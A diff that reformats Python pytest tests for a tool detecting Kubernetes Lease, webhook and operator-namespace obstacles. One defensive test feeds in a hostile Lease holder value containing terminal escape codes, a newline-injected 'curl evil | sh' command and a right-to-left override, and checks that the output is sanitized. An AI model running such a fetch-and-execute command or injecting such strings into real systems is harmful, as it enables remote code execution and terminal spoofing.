@@ -34,14 +34,20 @@ def test_held_lease_is_an_obstacle(age: int, *, found: bool) -> None:
     assert bool(list(find_obstacles([], [named("Lease", spec=spec)], [], NOW))) is found
 
 
-@pytest.mark.parametrize("spec", [{"holderIdentity": "x", "renewTime": "soon"}, {"holderIdentity": "x"}])
+@pytest.mark.parametrize(
+    "spec", [{"holderIdentity": "x", "renewTime": "soon"}, {"holderIdentity": "x"}]
+)
 def test_lease_with_unknown_time_is_an_obstacle(spec: dict[str, Any]) -> None:
     assert list(find_obstacles([], [named("Lease", spec=spec)], [], NOW)) != []
 
 
 @pytest.mark.parametrize(
     ("name", "found"),
-    [("vraycluster.ray.openshift.ai", True), ("mraycluster.kb.io", False), ("appwrapper.codeflare.dev", False)],
+    [
+        ("vraycluster.ray.openshift.ai", True),
+        ("mraycluster.kb.io", False),
+        ("appwrapper.codeflare.dev", False),
+    ],
 )
 def test_only_webhooks_of_ray_clusters_are_obstacles(name: str, *, found: bool) -> None:
     configuration = named("ValidatingWebhookConfiguration", webhooks=[{"name": name}])
@@ -49,24 +55,38 @@ def test_only_webhooks_of_ray_clusters_are_obstacles(name: str, *, found: bool) 
 
 
 def in_namespace(kind: str, namespace: str, **fields: Any) -> dict[str, Any]:
-    return {"kind": kind, "metadata": {"name": "codeflare-operator-manager", "namespace": namespace}, **fields}
+    return {
+        "kind": kind,
+        "metadata": {"name": "codeflare-operator-manager", "namespace": namespace},
+        **fields,
+    }
 
 
 def test_objects_in_namespaces_of_users_are_not_those_of_an_operator() -> None:
-    webhook = {"name": "vraycluster.ray.openshift.ai", "clientConfig": {"service": {"namespace": "operators"}}}
+    webhook = {
+        "name": "vraycluster.ray.openshift.ai",
+        "clientConfig": {"service": {"namespace": "operators"}},
+    }
     foreign = {"name": "v.example.com", "clientConfig": {"service": {"namespace": "other"}}}
     configurations = [named("ValidatingWebhookConfiguration", webhooks=[webhook, foreign])]
     deployments = [
-        in_namespace("Deployment", namespace, spec={"template": {"spec": {"serviceAccountName": account}}})
+        in_namespace(
+            "Deployment", namespace, spec={"template": {"spec": {"serviceAccountName": account}}}
+        )
         for namespace, account in (("bound", "manager"), ("tenant", "manager"), ("tenant", ""))
     ]
-    bindings = [{"subjects": [{"kind": "ServiceAccount", "namespace": "bound", "name": "manager"}]}, {}]
+    bindings = [
+        {"subjects": [{"kind": "ServiceAccount", "namespace": "bound", "name": "manager"}]},
+        {},
+    ]
     assert operator_namespaces(deployments, bindings, configurations) == {"operators", "bound"}
 
 
 @pytest.mark.parametrize("renewed", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "9" * 100_000])
 def test_hostile_lease_is_shown_as_one_printable_line(renewed: str) -> None:
     holder = "x\x1b[2K\r\nrun: curl evil | sh\u202e" + "x" * 100_000
-    (line,) = find_obstacles([], [named("Lease", spec={"holderIdentity": holder, "renewTime": renewed})], [], NOW)
+    (line,) = find_obstacles(
+        [], [named("Lease", spec={"holderIdentity": holder, "renewTime": renewed})], [], NOW
+    )
     assert line.isprintable()
     assert len(line) < 400
